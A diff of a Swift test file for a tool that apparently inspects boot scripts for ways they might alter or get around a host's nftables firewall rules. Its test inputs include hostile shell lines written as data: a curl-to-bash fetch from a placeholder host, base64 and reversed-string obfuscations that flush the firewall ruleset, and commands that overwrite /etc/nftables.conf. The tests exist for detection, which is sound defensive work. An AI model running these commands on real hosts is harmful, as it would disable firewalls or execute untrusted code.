@@ -93,7 +93,8 @@ import Testing
         "eval \"$RULES\"", "echo bmZ0IGZsdXNoIHJ1bGVzZXQK | base64 -d | sh", "$(rev /opt/y) -F",
         "curl -s https://host.invalid/x | bash", "sh -c \"$1\"", ". \"$1\"",
         "bash <(base64 -d /opt/y)", "base64 -d /opt/y | python3 -",
-        "X=`printf tfn | rev`\n$X flush ruleset",
+        "X=`printf tfn | rev`\n$X flush ruleset", "su -c 'eval \"$X\"'",
+        "find /opt -exec sh -c 'eval $1' _ {} +",
     ])
     func `text that is made when it runs is not known`(line: String) throws {
         #expect(
@@ -103,12 +104,14 @@ import Testing
 
     @Test(arguments: [
         "DAEMON=/usr/bin/d\nexec $DAEMON --log \"$LOG/$NAME.log\" \"$@\"",
-        "tar czf /var/backups/$(date +%F).tgz /srv/*", "JAVA=$(which java)\n\"$JAVA\" -jar /opt/x.jar",
+        "tar czf /var/backups/$(date +%F).tgz /srv/*",
+        "JAVA=$(which java)\n\"$JAVA\" -jar /opt/x.jar",
         "HERE=$(dirname \"$0\")\n. \"$HERE/lib.sh\"\n\"$HERE/bin/run\" $*",
         "find /srv -name '*.tmp' | xargs rm -f", "echo 'it uses nftables and eval'",
         "[ -x /usr/bin/y ] && for f in a b; do echo $f; done", "tc qdisc add dev eth0 root fq",
         "ip link set dev eth0 up", "case $1 in\nstart) : ;;\nesac", "# eval nft",
         "psql -c \"SELECT $1\"", "php-fpm --nodaemonize", "python3 /opt/app/main.py --port $PORT",
+        "awk '$1 ~ /x/ { print $2 }' /srv/y", "jq '. | length' /srv/y", "su -c 'date +%F'",
         "i=$((i + 1))\ncat <<EOF\nx\nEOF",
     ])
     func `an ordinary script is silent`(line: String) throws {
@@ -187,7 +190,8 @@ import Testing
     }
 
     @Test(arguments: [
-        "/usr/sbin/tc filter add dev eth0 ingress bpf obj /opt/x.o", "/sbin/ip link set eth0 xdp obj /x",
+        "/usr/sbin/tc filter add dev eth0 ingress bpf obj /opt/x.o",
+        "/sbin/ip link set eth0 xdp obj /x",
     ])
     func `programs that see packets before the rules are not followed`(line: String) throws {
         #expect(
@@ -199,8 +203,10 @@ import Testing
 
 extension BootSuspicionsTests {
     @Test(arguments: [
-        "cp /opt/y /etc/nftables.conf", "cat /opt/y > /etc/nftables.conf", "ln -sf /opt/y /etc/nftables.conf",
-        "sed -i s/22/any/ /etc/nftables.conf", "cp /opt/nftables.conf /etc", "cd /etc\ncp /opt/y nftables.conf",
+        "cp /opt/y /etc/nftables.conf", "cat /opt/y > /etc/nftables.conf",
+        "ln -sf /opt/y /etc/nftables.conf",
+        "sed -i s/22/any/ /etc/nftables.conf", "cp /opt/nftables.conf /etc",
+        "cd /etc\ncp /opt/y nftables.conf",
     ])
     func `who changes what is loaded decides as well`(line: String) throws {
         let gap = try #require(try gap(Self.script("#!/bin/sh\n\(line)\n")))
@@ -215,6 +221,16 @@ extension BootSuspicionsTests {
     @Test(arguments: ["cp /etc/nftables.conf /srv/kept", "grep drop /etc/nftables.conf"])
     func `who reads what is loaded does not`(line: String) throws {
         #expect(try reason(Self.script("#!/bin/sh\n\(line)\n")) == nil)
+    }
+
+    @Test(arguments: ["echo x > /etc/nftables.d/y.nft", "cp /srv/y /etc/nftables.d/"])
+    func `a new file that would be included changes what is loaded`(line: String) throws {
+        var nodes = Self.script("#!/bin/sh\n\(line)\n")
+        nodes["/etc/nftables.conf"] = Given.file("include \"/etc/nftables.d/*.nft\"\n")
+        nodes["/etc/nftables.d/a.nft"] = Given.file("table inet x { }\n")
+        #expect(
+            try reason(nodes)
+                == "it names a file that the rules are loaded from, and may change it")
     }
 
     @Test(arguments: [
@@ -321,7 +337,8 @@ extension BootSuspicionsTests {
     }
 
     @Test func `explaining says why there are no rules`() throws {
-        func remarks(_ changes: [HostPath: GivenHost.Node], isLoaded: Bool = true) throws -> String {
+        func remarks(_ changes: [HostPath: GivenHost.Node], isLoaded: Bool = true) throws -> String
+        {
             let host = BootHooksTests.host(changes, isLoaded: isLoaded)
             let ways = try PacketWays(
                 of: host, "tcp 5432 from 203.0.113.9", declared: try Self.declared())
@@ -330,7 +347,8 @@ extension BootSuspicionsTests {
         let broken = try remarks(["/etc/nftables.conf": Given.file("table inet filter {\n")])
         #expect(broken.contains("/usr/sbin/nft refuses /etc/nftables.conf:"))
         #expect(broken.contains("no rule sees it"))
-        #expect(try remarks([:], isLoaded: false).contains("nothing that starts at boot loads rules"))
+        #expect(
+            try remarks([:], isLoaded: false).contains("nothing that starts at boot loads rules"))
         #expect(
             try remarks(["/usr/sbin/nft": Given.file("code")]).contains(
                 "/usr/sbin/nft cannot be run"))
@@ -370,7 +388,7 @@ extension BootSuspicionsTests {
         path: HostPath, text: String
     ) throws {
         let files: [HostPath: GivenHost.Node] = [
-            "/etc/systemd/network/a.network": Given.file("[Match]\nName=eth0\n"),
+            "/etc/systemd/network/a.network": Given.file("[Match]\nName=eth0\n")
         ]
         #expect(
             try finding(
